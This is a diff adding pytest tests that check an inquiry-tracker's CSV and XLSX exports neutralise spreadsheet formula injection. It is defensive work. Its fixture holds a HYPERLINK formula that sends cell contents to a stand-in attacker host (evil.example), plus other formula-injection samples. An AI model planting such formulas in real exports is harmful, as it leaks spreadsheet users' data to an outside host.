@@ -148,3 +148,65 @@ def test_export_a_selection_in_the_tables_order(tracked: Database) -> None:
     assert svc.export_items(tracked, "csv", empty, svc.ItemFilter(ids=()), clock=clock) == 0
     with pytest.raises(ValueError, match="unknown export format"):
         svc.export_items(tracked, "pdf", io.BytesIO(), clock=clock)  # type: ignore[arg-type]
+
+
+# --- untrusted text and unsafe targets ------------------------------------------------
+
+HOSTILE = (
+    "OUTLET:某日报\n"
+    'Q:=HYPERLINK("http://evil.example/?"&A1,"点我")|+86 回复|@某局|2020-05-31\n'
+    "Q:-2+3 何时修好?|=1+1|市建设局|2020-05-31\n"
+)
+
+
+@pytest.fixture
+def hostile(db: Database, analyze: Callable[..., Any]) -> Database:
+    ids = svc.import_text(db, HOSTILE, "evil.txt", svc.ImportOptions(accept=True), analyze=analyze).new_items
+    svc.assign(db, ids[0], "@SUM(1+1)")
+    return db
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_inert_prefixes_what_a_spreadsheet_would_run(text: str) -> None:
+    from inquiry_tracker.services.exports.tabular import inert
+
+    assert inert(text) == "'" + text
+
+
+def test_inert_leaves_plain_text_and_numbers() -> None:
+    from inquiry_tracker.services.exports.tabular import inert
+
+    assert inert("森林路 -1") == "森林路 -1" and inert(-5) == -5 and inert(None) is None
+
+
+def test_csv_cells_never_start_a_formula(hostile: Database) -> None:
+    rows = list(csv.DictReader(io.StringIO(_export(hostile, "csv").decode("utf-8-sig"))))
+    link = next(r for r in rows if "HYPERLINK" in r["网友提问"])
+    assert link["网友提问"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    assert link["部门答复"] == "'+86 回复" and link["责任部门"] == "'@某局" and link["跟进记者"] == "'@SUM(1+1)"
+    other = next(r for r in rows if "何时修好" in r["网友提问"])
+    assert other["网友提问"] == "'-2+3 何时修好?" and other["部门答复"] == "'=1+1"
+    starts = {v[:1] for r in rows for k, v in r.items() if k != "剩余天数"}
+    assert not starts & set("=+-@\t\r")
+    assert int(link["剩余天数"]) < 0  # numbers stay numbers (past due)
+
+
+def test_xlsx_holds_no_formula_from_imported_text(hostile: Database) -> None:
+    from openpyxl import load_workbook
+
+    ws = load_workbook(io.BytesIO(_export(hostile, "xlsx")))["条目"]
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"点我")' in texts and "'@SUM(1+1)" in texts
+    assert any(isinstance(c.value, int) and c.value < 0 for c in cells)  # 剩余天数 is still a number
+
+
+def test_xlsx_control_character_names_the_item_and_field(tmp_path: Any, db: Database, analyze: Callable[..., Any]) -> None:
+    ids = svc.import_text(db, "Q:路灯不亮|已\x07修|市城管局|2020-05-31\n", "bell.txt", svc.ImportOptions(accept=True), analyze=analyze).new_items
+    out = tmp_path / "out"
+    out.mkdir()
+    with pytest.raises(svc.ExportError, match=rf"#{ids[0]} 部门答复 \(reply\)"):
+        svc.export_file(db, "xlsx", out / "items.xlsx", clock=svc.fixed(TODAY))
+    assert list(out.iterdir()) == []  # neither the file nor a .part
+    assert svc.export_file(db, "csv", out / "items.csv", clock=svc.fixed(TODAY)) == 1  # CSV can hold it
